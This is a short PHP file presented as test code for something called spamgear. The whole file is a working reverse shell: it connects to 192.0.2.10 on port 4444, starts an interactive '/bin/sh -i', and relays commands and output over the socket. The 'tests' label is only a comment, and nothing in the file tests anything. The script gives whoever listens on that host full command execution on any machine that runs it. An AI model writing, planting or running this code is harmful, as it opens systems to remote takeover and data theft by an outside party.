<?php
// Written for spamgear's tests: a reverse shell that relays what a fixed
// host sends into a shell's stdin (stream_select idiom, in_array on the
// socket handle).
$peer = fsockopen("192.0.2.10", 4444);
$proc = proc_open("/bin/sh -i", array(0 => array("pipe", "r"), 1 => array("pipe", "w")), $io);
while (!feof($peer)) {
    $ready = array($peer, $io[1]);
    stream_select($ready, $w, $e, null);
    if (in_array($peer, $ready)) {
        $line = fread($peer, 1024);
        fwrite($io[0], $line);
    }
    if (in_array($io[1], $ready)) fwrite($peer, fread($io[1], 1024));
}
